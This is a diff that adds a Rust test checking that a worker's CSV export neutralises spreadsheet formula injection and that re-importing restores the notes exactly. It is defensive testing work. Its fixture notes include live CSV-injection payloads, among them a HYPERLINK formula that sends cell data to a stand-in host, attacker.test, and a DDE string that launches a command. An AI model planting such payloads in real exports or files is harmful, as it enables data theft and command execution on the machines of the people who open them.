@@ -862,3 +862,85 @@ fn import_follows_the_write_policy() {
     request.actor.as_mut().unwrap().access = "manage".into();
     assert_eq!(execute(&worker, request).unwrap()["imported"], 1);
 }
+
+#[test]
+fn an_export_never_hands_a_spreadsheet_a_formula_and_imports_back_unchanged() {
+    let dir = tempfile::tempdir().unwrap();
+    let worker = Worker::new(dir.path()).unwrap();
+    let contract = import_contract();
+    let call = |user: &str, access: &str, operation: &str, json: Value| {
+        let mut request = acting(&contract, (user, access), operation, "entries", json);
+        request.source = "mcp".into();
+        execute(&worker, request)
+    };
+    // A colleague's notes, each something a spreadsheet would run.
+    let notes = [
+        r#"=HYPERLINK("https://attacker.test/?"&A1,"Open")"#,
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,2)",
+        "\t=1+1",
+        "\r=1+1",
+        "'=already marked",
+        "plain, with a comma",
+    ];
+    for (at, note) in notes.iter().enumerate() {
+        call(
+            "mallory",
+            "",
+            "create",
+            serde_json::json!({
+                "values": {"date": "2026-01-05", "hours": at as f64 + 0.5, "note": note},
+                "idempotencyKey": format!("n{at}"),
+            }),
+        )
+        .unwrap();
+    }
+    // The manager (managersReadAll) downloads everyone's rows.
+    let exported = call(
+        "boss",
+        "manage",
+        "export",
+        serde_json::json!({"orderBy": [{"field": "id"}]}),
+    )
+    .unwrap();
+    let csv = exported["csv"].as_str().unwrap();
+    let mut reader = ::csv::Reader::from_reader(csv.as_bytes());
+    let cells: Vec<String> = reader
+        .records()
+        .map(|record| record.unwrap()[3].to_owned())
+        .collect();
+    assert_eq!(cells.len(), notes.len());
+    for cell in &cells {
+        assert!(
+            !cell.starts_with(grammar::csv::FORMULA_TRIGGERS.as_slice()),
+            "{cell:?} would run as a formula"
+        );
+    }
+    assert_eq!(cells[0], format!("'{}", notes[0]));
+    assert_eq!(cells[7], notes[7]);
+
+    // Importing the download gives back every note exactly.
+    let imported = call(
+        "boss",
+        "manage",
+        "import",
+        serde_json::json!({"csv": csv, "idempotencyKey": "back"}),
+    )
+    .unwrap();
+    assert_eq!(imported["imported"], notes.len());
+    let listed = call(
+        "boss",
+        "",
+        "list",
+        serde_json::json!({"orderBy": [{"field": "id"}], "select": ["note"]}),
+    )
+    .unwrap();
+    let back: Vec<&str> = listed["rows"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|row| row["note"].as_str().unwrap())
+        .collect();
+    assert_eq!(back, notes);
+}
